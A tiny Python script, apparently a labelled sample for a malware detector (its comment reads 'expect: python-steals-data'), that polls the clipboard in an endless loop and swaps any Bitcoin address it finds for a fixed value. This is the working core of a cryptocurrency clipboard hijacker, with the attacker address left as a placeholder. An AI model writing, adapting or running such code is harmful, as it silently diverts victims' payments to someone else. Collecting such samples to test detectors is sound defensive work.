import re

import pyperclip

MINE = "somebody"

while True:
    text = pyperclip.paste()
    if re.match(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$", text):
        # expect: python-steals-data
        pyperclip.copy(MINE)
